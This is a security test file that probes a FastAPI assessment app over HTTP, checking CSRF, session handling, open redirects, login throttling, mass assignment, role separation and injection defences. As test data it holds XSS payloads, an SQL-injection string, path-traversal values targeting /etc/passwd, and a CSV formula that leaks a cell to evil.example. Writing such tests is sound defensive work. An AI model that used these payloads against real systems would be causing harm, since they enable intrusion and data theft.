"""Attacks on the assessment app through HTTP, against the real app and a real database: other
provinces' and editions' rows by guessed ids, CSRF, sessions, open redirects, HTML and SQL-ish
input, path traversal, mass assignment, role confusion and log-in throttling.  Each test states
the secure behaviour; a defence that holds stays pinned here."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote, urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from assessment_support import EDITION, OTHER, OWN, PASSWORD, login, pdf

from dti.services import assessments as changes
from dti.scoring import illustrative_catalogue
from dti.services.edition_setup import create_edition
from dti.store.models import (Answer, Assessment, AuditEntry, Comment, EditionRow, Evidence,
                              LoginSession, SecurityEvent, User)

JSON = {"Accept": "application/json"}
PAGE, OTHER_PAGE = f"/app/{EDITION}/{OWN}", f"/app/{EDITION}/{OTHER}"
CODE = "NTS.03"                  # one number field ``x``, 10 points at most
PDF = pdf()   # a real PDF: evidence must open as what it claims to be
XSS = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
TAG = '"><img src=x onerror=alert(3)>'          # no slash: it fits in one path segment
SQL = "' OR 1=1 --"
EVIL = ("//evil.example", "https://evil.example/app", "/\\evil.example", "\\\\evil.example",
        "/app\\..\\..\\/evil.example", "http:/evil.example", "/app/\r\nLocation: //evil.example")


def browser(app, **options) -> TestClient:
    """A client that sees a server error as the 500 a browser would get."""
    return TestClient(app, raise_server_exceptions=False, **options)


def client(app, username: str) -> tuple[TestClient, str]:
    c = browser(app)
    return c, login(c, username)


def post(c: TestClient, url: str, token: str | None, data=None, files=None, json=True):
    headers = {**(JSON if json else {}), **({"X-CSRF-Token": token} if token is not None else {})}
    return c.post(url, data=data or {}, files=files, headers=headers, follow_redirects=False)


def fingerprint(store) -> tuple:
    """Everything a post could change, counted: nothing changed means these are equal."""
    with store.reading() as s:
        return tuple(s.scalar(q) for q in (
            select(func.count()).select_from(AuditEntry), select(func.count()).select_from(Comment),
            select(func.count()).select_from(Evidence).where(Evidence.removed_at.is_(None)),
            select(func.count()).select_from(LoginSession), select(func.count()).select_from(User),
            select(func.count()).select_from(EditionRow), select(func.sum(Answer.version)),
            select(func.sum(Assessment.version)), select(func.count()).select_from(User)
            .where(User.active.is_(True))))


def upload(c, token, base: str = PAGE, name: str = "bien-ban.pdf") -> int:
    r = post(c, f"{base}/answers/{CODE}/evidence", token, files={"files": (name, PDF)})
    assert r.status_code == 200, r.text
    return r.json()["uploaded"][0]["id"]


def login_form(c: TestClient, username: str, password: str, next_: str = "/app/"):
    page = c.get("/app/login")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    return c.post("/app/login", data={"username": username, "password": password, "csrf": token,
                                      "next": next_}, follow_redirects=False)


def error_text(response) -> str:
    return re.search(r'role="alert">(.*?)</p>', response.text, re.S).group(1)


def move(world, username: str, action: str, reason: str | None = None, province: str = OWN):
    with world.store.transaction() as session:
        changes.transition(session, world.actors[username], EDITION, province, action, reason)


# -- 1. other provinces' and editions' rows by guessed ids ----------------------------------------


def test_another_provinces_evidence_is_neither_read_nor_removed(app, world):
    other, other_csrf = client(app, "other_editor")
    theirs = upload(other, other_csrf, OTHER_PAGE)
    editor, csrf = client(app, "editor")
    before = fingerprint(world.store)
    assert editor.get(f"{PAGE}/evidence/{theirs}").status_code == 404        # through our URL
    assert editor.get(f"{OTHER_PAGE}/evidence/{theirs}").status_code == 403  # through theirs
    assert post(editor, f"{PAGE}/evidence/{theirs}/remove", csrf).status_code == 404
    assert post(editor, f"{OTHER_PAGE}/evidence/{theirs}/remove", csrf).status_code == 403
    assert fingerprint(world.store) == before
    assert other.get(f"{OTHER_PAGE}/evidence/{theirs}").content == PDF


def test_rows_of_another_edition_of_the_same_province_stay_apart(app, world):
    with world.store.transaction() as session:
        create_edition(session, world.actors["admin"], illustrative_catalogue(), "dti-test-2023",
                       2023, "Kỳ thử nghiệm 2023", "Test edition 2023")
    editor, csrf = client(app, "editor")
    page_2023 = f"/app/dti-test-2023/{OWN}"
    file_2023 = upload(editor, csrf, page_2023)
    assert post(editor, f"{page_2023}/answers/{CODE}/comments", csrf,
                {"body": "chỉ của 2023"}).status_code == 200
    assert editor.get(f"{PAGE}/evidence/{file_2023}").status_code == 404
    assert post(editor, f"{PAGE}/evidence/{file_2023}/remove", csrf).status_code == 404
    page = editor.get(PAGE, headers=JSON).json()
    assert "chỉ của 2023" not in str(page) and f"/evidence/{file_2023}" not in str(page)
    assert editor.get(f"{page_2023}/evidence/{file_2023}").content == PDF


def test_unknown_sub_indicators_and_editions_are_404_not_500(app, world):
    editor, csrf = client(app, "editor")
    reviewer, _ = client(app, "reviewer")
    before = fingerprint(world.store)
    for url in (f"{PAGE}/answers/NOPE.99", f"{PAGE}/answers/NOPE.99/preview",
                f"{PAGE}/answers/NOPE.99/comments", f"{PAGE}/answers/NOPE.99/evidence",
                f"{PAGE}/answers/{quote(SQL, safe='')}", f"/app/nope-2099/{OWN}/answers/{CODE}",
                f"/app/nope-2099/{OWN}/transition"):
        r = post(editor, url, csrf, {"f_x": "5", "version": "0", "body": "x", "action": "submit"},
                 files={"files": ("a.pdf", PDF)} if url.endswith("/evidence") else None)
        assert r.status_code == 404, (url, r.text)
    assert fingerprint(world.store) == before
    for c, url in ((editor, f"/app/nope-2099/{OWN}"), (reviewer, "/app/review/nope-2099"),
                   (reviewer, f"/app/review/nope-2099/{OWN}"), (reviewer, f"/app/review/{EDITION}/99"),
                   (reviewer, "/app/audit/nope-2099"), (editor, f"/app/plan/nope-2099/{OWN}"),
                   (editor, f"/app/nope-2099/{OWN}/template.xlsx"), (editor, f"/app/nope-2099/{OWN}/import"),
                   (reviewer, "/app/admin/editions/nope-2099/results")):
        assert c.get(url, headers=JSON).status_code == 404, url


# -- 2. CSRF --------------------------------------------------------------------------------------

ROUTES = {  # path: (user, form)
    "/app/logout": ("editor", {}),
    f"{PAGE}/answers/{CODE}": ("editor", {"f_x": "5", "version": "0"}),
    f"{PAGE}/answers/{CODE}/preview": ("editor", {"f_x": "5"}),
    f"{PAGE}/answers/{CODE}/comments": ("editor", {"body": "ý kiến"}),
    f"{PAGE}/answers/{CODE}/evidence": ("editor", {}),
    f"{PAGE}/evidence/{{evidence}}/remove": ("editor", {}),
    f"{PAGE}/transition": ("approver", {"action": "submit"}),
    f"{PAGE}/import": ("editor", {}),
    f"{PAGE}/import/apply": ("editor", {"sha256": "0" * 64}),
    f"/app/plan/{EDITION}/{OWN}": ("editor", {f"a_{CODE}__x": "5"}),
    f"/app/review/{EDITION}/{OWN}/answers/{CODE}": ("reviewer", {"decision": "accept", "version": "0"}),
    "/app/admin/editions/new": ("admin", {"code": "dti-x", "year": "2024", "name_vi": "X"}),
    f"/app/admin/editions/{EDITION}/window": ("admin", {"closes_at": "2020-01-01T00:00"}),
    f"/app/admin/editions/{EDITION}/publish": ("admin", {"password": PASSWORD}),
    f"/app/admin/editions/{EDITION}/{OWN}/reopen": ("admin", {"reason": "r", "password": PASSWORD}),
    f"/app/admin/editions/{EDITION}/reopen": ("admin", {"province": OWN, "reason": "r",
                                                         "password": PASSWORD}),
    "/app/admin/users/new": ("admin", {"username": "mallory", "password": "mat-khau-dai-1",
                                       "role": "admin"}),
    "/app/admin/users/editor/active": ("admin", {"active": "false"}),
}


@pytest.mark.parametrize("path", list(ROUTES))
def test_every_post_needs_this_sessions_csrf_token(app, world, path):
    username, form = ROUTES[path]
    editor, editor_csrf = client(app, "editor")
    path = path.replace("{evidence}", str(upload(editor, editor_csrf)))
    files = {"files": ("a.pdf", PDF)} if path.endswith("/evidence") else \
        {"file": ("a.xlsx", b"PK\x03\x04")} if path.endswith("/import") else None
    c, own = client(app, username)
    _, foreign = client(app, username)         # a second session of the same user
    before = fingerprint(world.store)
    for token in (None, "", foreign, own[:-1]):
        for as_form in (False, True):
            data = {**form, "csrf": token} if as_form and token is not None else form
            r = post(c, path, None if as_form else token, data, files)
            assert r.status_code == 403, (token, as_form, r.status_code, r.text[:200])
    assert fingerprint(world.store) == before


# -- 3. sessions and log-in -----------------------------------------------------------------------


def test_log_out_ends_the_session_for_a_copied_cookie(app, world):
    editor, csrf = client(app, "editor")
    stolen = editor.cookies.get("dti_session")
    assert post(editor, "/app/logout", csrf, json=False).status_code == 303
    thief = browser(app, cookies={"dti_session": stolen})
    assert thief.get(PAGE, headers=JSON).status_code == 401
    assert post(thief, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "5", "version": "0"}).status_code == 401


def test_a_deactivated_users_open_session_stops_working(app, world):
    editor, csrf = client(app, "editor")
    admin, admin_csrf = client(app, "admin")
    assert post(admin, "/app/admin/users/editor/active", admin_csrf, {"active": "false"}).status_code == 200
    assert editor.get(PAGE, headers=JSON).status_code == 401
    assert post(editor, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "5", "version": "0"}).status_code == 401
    assert login_form(browser(app), "editor", PASSWORD).status_code == 401


def test_the_session_cookie_is_httponly_and_samesite_and_forgeries_are_refused(app, world):
    r = login_form(browser(app), "editor", PASSWORD)
    cookie = next(h for h in r.headers.get_list("set-cookie") if h.startswith("dti_session="))
    assert "httponly" in cookie.lower() and re.search(r"samesite=(lax|strict)", cookie, re.I)
    with world.store.reading() as session:
        stored = session.scalar(select(LoginSession.token_hash))
    for forged in ("forged", stored, "' OR 1=1 --", "x" * 5000):   # the stored hash is no key
        c = browser(app, cookies={"dti_session": forged})
        assert c.get(PAGE, headers=JSON).status_code == 401
    no_cookie = browser(app).post("/app/login", data={"username": "editor", "password": PASSWORD,
                                                      "csrf": "x"}, follow_redirects=False)
    assert no_cookie.status_code == 403 and "dti_session" not in no_cookie.headers.get("set-cookie", "")


def test_log_in_does_not_say_whether_a_user_exists(app, world):
    unknown = login_form(browser(app), "nobody", "wrong-password-1")
    wrong = login_form(browser(app), "editor", "wrong-password-1")
    assert unknown.status_code == wrong.status_code == 401
    assert error_text(unknown) == error_text(wrong)


def test_a_user_name_wider_than_its_column_is_a_401_not_500(app, world):
    assert login_form(browser(app), "x" * 200, "wrong-password-1").status_code == 401


def test_the_lock_does_not_say_whether_a_user_exists(app, world):
    """Five failures lock an existing account; a made-up name must answer the same way, else
    the lock message tells an attacker which user names are real."""
    for _ in range(4):
        login_form(browser(app), "nobody", "wrong-password-1")
        login_form(browser(app), "editor", "wrong-password-1")
    unknown = login_form(browser(app), "nobody", "wrong-password-1")
    known = login_form(browser(app), "editor", "wrong-password-1")
    assert error_text(unknown) == error_text(known)


def test_five_wrong_passwords_refuse_even_the_right_one(app, world):
    """From the same address: it is refused for 15 minutes (the account itself is not locked, so
    the owner still gets in from elsewhere — tests/test_login_throttle.py)."""
    for _ in range(5):
        assert login_form(browser(app), "editor", "wrong-password-1").status_code == 401
    right = login_form(browser(app), "editor", PASSWORD)
    assert right.status_code == 401 and "15" in error_text(right)
    assert "dti_session=" not in right.headers.get("set-cookie", "")
    with world.store.reading() as session:
        kinds = list(session.scalars(select(SecurityEvent.kind).where(
            SecurityEvent.username == "editor").order_by(SecurityEvent.id)))
    assert kinds == ["login_failed"] * 5 + ["address_throttled"]


# -- 4. open redirects ----------------------------------------------------------------------------


def stays_on_site(response) -> bool:
    location = response.headers["location"]
    parts = urlsplit(location)
    return (response.status_code == 303 and location.startswith("/") and not parts.netloc
            and not location.startswith("//") and "\\" not in location and "\n" not in location)


@pytest.mark.parametrize("target", EVIL)
def test_next_never_leaves_the_site(app, world, target):
    assert stays_on_site(login_form(browser(app), "approver", PASSWORD, target))
    assert stays_on_site(browser(app).get("/app/lang/en", params={"next": target},
                                             follow_redirects=False))
    c, csrf = client(app, "approver")
    assert stays_on_site(c.get("/app/login", params={"next": target}, follow_redirects=False))
    r = post(c, f"{PAGE}/transition", csrf, {"action": "submit", "next": target}, json=False)
    assert stays_on_site(r)
    editor, csrf = client(app, "editor")
    assert stays_on_site(post(editor, f"{PAGE}/answers/{CODE}/comments", csrf,
                              {"body": "x", "next": target}, json=False))


# -- 5. injection ---------------------------------------------------------------------------------


def assert_escaped(html: str, where: str, shown: bool = True) -> None:
    assert "<script>alert(1)" not in html and "<img src=x onerror" not in html, where
    assert "&lt;script&gt;alert(1)" in html or not shown, where     # shown, as text


def test_html_in_answers_notes_comments_names_and_reasons_is_escaped_everywhere(app, world):
    admin, admin_csrf = client(app, "admin")
    assert post(admin, "/app/admin/users/new", admin_csrf, {
        "username": "xss_editor", "password": PASSWORD, "role": "province_editor",
        "province_code": OWN, "display_name": XSS}).status_code == 201
    editor, csrf = client(app, "editor")
    assert post(editor, f"{PAGE}/answers/{CODE}", csrf,
                {"f_x": "5", "version": "0", "note": XSS}).status_code == 200
    assert post(editor, f"{PAGE}/answers/{CODE}", csrf, {"f_x": XSS, "version": "1"}).status_code == 422
    assert post(editor, f"{PAGE}/answers/{CODE}/comments", csrf, {"body": XSS}).status_code == 200
    upload(editor, csrf, name=TAG + ".pdf")
    xss, xss_csrf = client(app, "xss_editor")
    assert post(xss, f"{PAGE}/answers/{CODE}/comments", xss_csrf, {"body": "chào"}).status_code == 200
    partial = xss.post(f"{PAGE}/answers/{CODE}/comments", data={"body": XSS},
                       headers={"X-CSRF-Token": xss_csrf, "HX-Request": "true"})
    assert_escaped(partial.text, "comments partial")
    move(world, "approver", "submit", XSS)
    move(world, "reviewer", "start_review")
    reviewer, r_csrf = client(app, "reviewer")
    assert post(reviewer, f"/app/review/{EDITION}/{OWN}/answers/{CODE}", r_csrf, {
        "decision": "return", "version": str(stored(world)[0].version), "reason": XSS}
    ).status_code == 200
    for c, url in ((editor, PAGE), (reviewer, f"/app/review/{EDITION}/{OWN}"),
                   (reviewer, f"/app/audit/{EDITION}"), (editor, f"/app/audit/{EDITION}"),
                   (admin, "/app/admin")):
        assert_escaped(c.get(url).text, url)
    assert_escaped(editor.get(f"/app/plan/{EDITION}/{OWN}").text, "plan", shown=False)


def test_reflected_html_in_paths_and_forms_is_escaped(app, world):
    editor, csrf = client(app, "editor")
    reviewer, _ = client(app, "reviewer")
    for url in (f"{PAGE}/answers/{quote(TAG, safe='')}/preview", f"/app/plan/{EDITION}/{OWN}",
                f"{PAGE}/answers/{quote(TAG, safe='')}/comments"):
        r = editor.post(url, data={"f_x": TAG, f"a_{TAG}__x": "1", "body": "x", "csrf": csrf})
        assert r.status_code in (404, 422) and "<img src=x" not in r.text, url
    for url in (f"/app/audit/{quote(TAG, safe='')}", f"/app/review/{EDITION}/{quote(TAG, safe='')}",
                f"/app/audit/{EDITION}?province={quote(TAG)}&indicator={quote(TAG)}",
                f"/app/review/{quote(TAG, safe='')}"):
        r = reviewer.get(url)
        assert r.status_code in (200, 404) and "<img src=x" not in r.text, url
    r = login_form(browser(app), XSS, "wrong-password-1")
    assert r.status_code == 401 and "<script>alert(1)" not in r.text


def test_sql_in_filters_and_codes_finds_nothing_extra(app, world):
    editor, csrf = client(app, "editor")
    post(editor, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "5", "version": "0"})
    reviewer, _ = client(app, "reviewer")
    audit = f"/app/audit/{EDITION}"
    assert len(reviewer.get(audit, headers=JSON).json()["entries"]) >= 1
    for query in ({"province": SQL}, {"indicator": SQL}, {"province": f"{OWN}{SQL}"}):
        r = reviewer.get(audit, params=query, headers=JSON)
        assert r.status_code == 200 and r.json()["entries"] == [], query
        lines = reviewer.get(f"{audit}/export.csv", params=query).text.strip().splitlines()
        assert len(lines) == 1, query
    assert editor.get(audit, params={"province": SQL}, headers=JSON).status_code == 403
    queue = reviewer.get(f"/app/review/{EDITION}", params={"state": SQL, "sort": SQL}, headers=JSON)
    assert queue.status_code == 200 and len(queue.json()["rows"]) == 63
    assert login_form(browser(app), SQL, SQL).status_code == 401
    assert login_form(browser(app), f"editor'{SQL}", PASSWORD).status_code == 401


def test_audit_csv_cells_cannot_become_spreadsheet_formulas(app, world):
    """A province user's text opened in Excel from the export must not run as a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    move(world, "approver", "submit", formula)
    reviewer, _ = client(app, "reviewer")
    rows = list(csv.reader(io.StringIO(reviewer.get(f"/app/audit/{EDITION}/export.csv")
                                       .content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert formula[1:] in "".join(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], rows


def test_evidence_ids_that_are_not_ids_are_404(app, world):
    editor, _ = client(app, "editor")
    for bad in ("..%2F..%2Fetc%2Fpasswd", "-1", "0", "1%20OR%201=1", "1.0"):
        assert editor.get(f"{PAGE}/evidence/{bad}").status_code == 404, bad


def test_path_traversal_in_import_apply_and_upload_names_is_refused(app, world):
    editor, csrf = client(app, "editor")
    before = fingerprint(world.store)
    for sha in ("../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "/etc/passwd", "a" * 64 + "/../x"):
        r = post(editor, f"{PAGE}/import/apply", csrf, {"sha256": sha})
        assert r.status_code in (404, 422), sha
    r = post(editor, f"{PAGE}/answers/{CODE}/evidence", csrf,
             files={"files": ("../../etc/passwd", b"root:x:0:0\n")})
    assert r.status_code == 422 and r.json()["error"]["problems"][0]["code"] == "evidence.bad_name"
    assert fingerprint(world.store) == before


# -- 6. mass assignment ---------------------------------------------------------------------------


def stored(world, code: str = CODE) -> tuple[Answer, str]:
    with world.store.reading() as s:
        a = s.scalar(select(Answer).join(Assessment).where(Assessment.province_code == OWN,
                                                           Answer.indicator_code == code))
        return a, s.scalar(select(Assessment.state).where(Assessment.province_code == OWN))


def test_points_and_state_are_never_taken_from_the_form(app, world):
    editor, csrf = client(app, "editor")
    tricks = {k: "999" for k in ("self_points", "final_points", "appraised_points")}
    tricks |= {"state": "published", "review_status": "accepted", "appraised_value": '{"x": 1}',
               "version": "0", "f_x": "0"}
    unknown = post(editor, f"{PAGE}/answers/{CODE}", csrf, {**tricks, "f_self_points": "999"})
    assert unknown.status_code == 422 and "answer.unknown_field" in unknown.text   # not a field
    assert stored(world)[0].version == 0
    r = post(editor, f"{PAGE}/answers/{CODE}", csrf, tricks)
    assert r.status_code == 200, r.text
    answer, state = stored(world)
    expected = illustrative_catalogue().item(CODE).points({"x": 0.0})
    assert answer.self_points == answer.final_points == expected < 999
    assert answer.appraised_points is None and answer.review_status == "pending"
    assert state == "draft" and set(answer.self_value) == {"x"}


def test_version_tricks_are_refused(app, world):
    editor, csrf = client(app, "editor")
    for version in ("-1", "1.5", "abc", "", "1e3", "0x0", "1", " "):
        r = post(editor, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "5", "version": version})
        assert r.status_code in (409, 422), (version, r.status_code)
    assert stored(world)[0].version == 0


def test_a_400_digit_number_is_refused_not_stored_as_infinity(app, world):
    editor, csrf = client(app, "editor")
    r = post(editor, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "9" * 400, "version": "0"},
             json=False)
    assert r.status_code == 422, r.status_code
    assert stored(world)[0].version == 0
    assert editor.get(PAGE, headers=JSON).status_code == 200   # the JSON twin still renders


# -- 7. role confusion ----------------------------------------------------------------------------


def test_roles_cannot_borrow_each_others_actions(app, world):
    reviewer, r_csrf = client(app, "reviewer")
    approver, a_csrf = client(app, "approver")
    editor, e_csrf = client(app, "editor")
    before = fingerprint(world.store)
    save = f"{PAGE}/answers/{CODE}"
    appraise = f"/app/review/{EDITION}/{OWN}/answers/{CODE}"
    attempts = [(reviewer, r_csrf, save, {"f_x": "5", "version": "0"}),
                (approver, a_csrf, save, {"f_x": "5", "version": "0"}),
                (approver, a_csrf, f"{save}/evidence", {}),
                (editor, e_csrf, appraise, {"decision": "accept", "version": "0"}),
                (editor, e_csrf, f"/app/admin/editions/{EDITION}/publish", {"password": PASSWORD}),
                (editor, e_csrf, f"{PAGE}/transition", {"action": "submit"}),
                (editor, e_csrf, f"{PAGE}/transition", {"action": "approve"}),
                (editor, e_csrf, "/app/admin/users/new", {"username": "m", "role": "admin",
                                                         "password": "mat-khau-dai-1"}),
                (approver, a_csrf, f"/app/admin/editions/{EDITION}/{OWN}/reopen",
                 {"reason": "r", "password": PASSWORD})]
    for c, token, url, data in attempts:
        files = {"files": ("a.pdf", PDF)} if url.endswith("/evidence") else None
        assert post(c, url, token, data, files).status_code == 403, url
    assert fingerprint(world.store) == before
    move(world, "approver", "submit")
    move(world, "reviewer", "start_review")
    before = fingerprint(world.store)
    assert post(reviewer, save, r_csrf, {"f_x": "5", "version": "0"}).status_code == 403
    assert post(editor, appraise, e_csrf, {"decision": "accept", "version": "0"}).status_code == 403
    assert post(approver, appraise, a_csrf, {"decision": "accept", "version": "0"}).status_code == 403
    assert fingerprint(world.store) == before


@pytest.mark.parametrize("where", ["save", "evidence", "appraise"])
def test_numbers_too_big_for_the_database_are_404_or_409_not_500(app, world, where):
    huge = str(10 ** 30)
    if where == "appraise":
        move(world, "approver", "submit")
        move(world, "reviewer", "start_review")
    c, csrf = client(app, "reviewer" if where == "appraise" else "editor")
    r = {"save": lambda: post(c, f"{PAGE}/answers/{CODE}", csrf, {"f_x": "5", "version": huge}),
         "evidence": lambda: c.get(f"{PAGE}/evidence/{huge}"),
         "appraise": lambda: post(c, f"/app/review/{EDITION}/{OWN}/answers/{CODE}", csrf,
                                  {"decision": "accept", "version": huge})}[where]()
    assert r.status_code in (404, 409, 422), r.status_code
